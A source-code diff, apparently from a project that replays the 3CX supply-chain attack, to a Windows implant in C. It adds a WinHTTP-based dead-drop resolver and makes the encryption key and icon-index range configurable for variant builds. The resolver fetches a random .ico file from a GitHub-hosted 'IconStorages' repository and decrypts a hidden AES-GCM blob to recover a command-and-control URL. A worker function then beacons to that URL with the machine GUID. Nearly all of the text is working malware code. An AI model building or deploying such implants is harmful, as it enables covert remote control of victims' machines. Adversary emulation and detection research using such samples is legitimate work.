@@ -51,9 +51,21 @@ __declspec(dllimport) int __cdecl rand(void);
 #define DORMANCY_JITTER 1800000u
 #define MAX_DOWNLOAD (16u * 1024u * 1024u)
 
+/* Variant builds (chainreplay variant, scenarios/3cx/variant.toml) override ICON_KEY_BYTES,
+ * ICON_INDEX_MIN/MAX and DEAD_DROP_WINHTTP with -D; the defaults build the committed sample. */
+#ifdef ICON_KEY_BYTES
+static const unsigned char ICON_KEY[32] = {ICON_KEY_BYTES};
+#else
 static const unsigned char ICON_KEY[32] = {
     0xed, 0x99, 0x17, 0x62, 0x9f, 0x8d, 0xfc, 0x8e, 0xd6, 0x64, 0x3e, 0xef, 0x78, 0xe5, 0x59, 0x05,
     0x0a, 0x07, 0xd1, 0xb4, 0xe3, 0x10, 0xc3, 0xf6, 0xcd, 0x2b, 0x28, 0xe0, 0x24, 0x94, 0xe9, 0x7a};
+#endif
+#ifndef ICON_INDEX_MIN
+#define ICON_INDEX_MIN 1
+#endif
+#ifndef ICON_INDEX_MAX
+#define ICON_INDEX_MAX 15
+#endif
 static const unsigned char ICON_NONCE[12] = {
     0x2c, 0xf5, 0xea, 0x0b, 0x72, 0x5d, 0x32, 0x82, 0xc7, 0x2a, 0xa2, 0x43};
 static const unsigned char STAGE3_KEY[32] = {
@@ -444,10 +456,85 @@ static char *icon_to_url(BUF *ico)
     return (char *)gcm_open(ico->p + end, blen, ICON_KEY, ICON_NONCE, &plen);
 }
 
+#ifdef DEAD_DROP_WINHTTP
+/* The dead drop fetched with WinHTTP instead of WinINet (variant builds only). Declared here:
+ * winhttp.h and wininet.h cannot be included together. */
+#define DD_WINHTTP_FLAG_SECURE 0x00800000
+#define DD_WINHTTP_QUERY_STATUS_CODE 19
+#define DD_WINHTTP_QUERY_FLAG_NUMBER 0x20000000
+__declspec(dllimport) HINTERNET WINAPI WinHttpOpen(LPCWSTR, DWORD, LPCWSTR, LPCWSTR, DWORD);
+__declspec(dllimport) HINTERNET WINAPI WinHttpConnect(HINTERNET, LPCWSTR, INTERNET_PORT, DWORD);
+__declspec(dllimport) HINTERNET WINAPI WinHttpOpenRequest(HINTERNET, LPCWSTR, LPCWSTR, LPCWSTR, LPCWSTR,
+                                                          LPCWSTR *, DWORD);
+__declspec(dllimport) BOOL WINAPI WinHttpSendRequest(HINTERNET, LPCWSTR, DWORD, LPVOID, DWORD, DWORD, DWORD_PTR);
+__declspec(dllimport) BOOL WINAPI WinHttpReceiveResponse(HINTERNET, LPVOID);
+__declspec(dllimport) BOOL WINAPI WinHttpQueryHeaders(HINTERNET, DWORD, LPCWSTR, LPVOID, LPDWORD, LPDWORD);
+__declspec(dllimport) BOOL WINAPI WinHttpReadData(HINTERNET, LPVOID, DWORD, LPDWORD);
+__declspec(dllimport) BOOL WINAPI WinHttpCloseHandle(HINTERNET);
+
+static const wchar_t ICON_HOST[] = L"raw.githubusercontent.com";
+static const wchar_t ICON_PATH_FMT[] = L"/IconStorages/images/main/icon%d.ico";
+
+static int winhttp_read_all(HINTERNET h, BUF *b)
+{
+    DWORD cap = 0x4000, got;
+    b->n = 0;
+    b->p = (unsigned char *)xalloc(cap + 1);
+    if (!b->p)
+        return 0;
+    for (;;) {
+        if (cap - b->n < 0x1000) {
+            if (cap >= MAX_DOWNLOAD)
+                break;
+            unsigned char *q = (unsigned char *)xalloc(cap * 2 + 1);
+            if (!q)
+                break;
+            memcpy(q, b->p, b->n);
+            xfree(b->p);
+            b->p = q;
+            cap *= 2;
+        }
+        got = 0;
+        if (!WinHttpReadData(h, b->p + b->n, cap - b->n, &got) || got == 0)
+            break;
+        b->n += got;
+    }
+    b->p[b->n] = 0;
+    return b->n != 0;
+}
+
+/* session: a WinHttpOpen handle. */
+static char *resolve_c2(HINTERNET session)
+{
+    wchar_t path[160];
+    int idx = ICON_INDEX_MIN + rand() % (ICON_INDEX_MAX - ICON_INDEX_MIN + 1);
+    BUF ico = {0};
+    char *c2 = NULL;
+    DWORD code = 0, len = sizeof(code);
+
+    wfmt(path, 160, ICON_PATH_FMT, &idx);
+    HINTERNET conn = WinHttpConnect(session, ICON_HOST, INTERNET_DEFAULT_HTTPS_PORT, 0);
+    if (!conn)
+        return NULL;
+    HINTERNET req = WinHttpOpenRequest(conn, L"GET", path, NULL, NULL, NULL, DD_WINHTTP_FLAG_SECURE);
+    if (req && WinHttpSendRequest(req, NULL, 0, NULL, 0, 0, 0) && WinHttpReceiveResponse(req, NULL) &&
+        WinHttpQueryHeaders(req, DD_WINHTTP_QUERY_STATUS_CODE | DD_WINHTTP_QUERY_FLAG_NUMBER, NULL, &code, &len,
+                            NULL) &&
+        code == 200 && winhttp_read_all(req, &ico))
+        c2 = icon_to_url(&ico);
+    if (req)
+        WinHttpCloseHandle(req);
+    WinHttpCloseHandle(conn);
+    xfree(ico.p);
+    return c2;
+}
+#define DEAD_DROP_OPEN(ua) WinHttpOpen((ua), 0, NULL, NULL, 0)
+#define DEAD_DROP_CLOSE(h) WinHttpCloseHandle(h)
+#else
 static char *resolve_c2(HINTERNET inet)
 {
     wchar_t url[160];
-    int idx = 1 + rand() % 15;
+    int idx = ICON_INDEX_MIN + rand() % (ICON_INDEX_MAX - ICON_INDEX_MIN + 1);
     BUF ico = {0};
     char *c2 = NULL;
 
@@ -464,6 +551,10 @@ static char *resolve_c2(HINTERNET inet)
     xfree(ico.p);
     return c2;
 }
+
+#define DEAD_DROP_OPEN(ua) InternetOpenW((ua), INTERNET_OPEN_TYPE_PRECONFIG, NULL, NULL, 0)
+#define DEAD_DROP_CLOSE(h) InternetCloseHandle(h)
+#endif
 
 /* ------------------------------------------------------------------ e./f. C2 */
 
@@ -750,11 +841,11 @@ static DWORD WINAPI worker(LPVOID param)
     if (!machine_guid(guid, 64))
         goto done;
 
-    HINTERNET inet = InternetOpenW(args->ua, INTERNET_OPEN_TYPE_PRECONFIG, NULL, NULL, 0);
+    HINTERNET inet = DEAD_DROP_OPEN(args->ua);
     if (!inet)
         goto done;
     c2 = resolve_c2(inet);
-    InternetCloseHandle(inet);
+    DEAD_DROP_CLOSE(inet);
     if (c2)
         beacon(args, c2, guid);
 done:
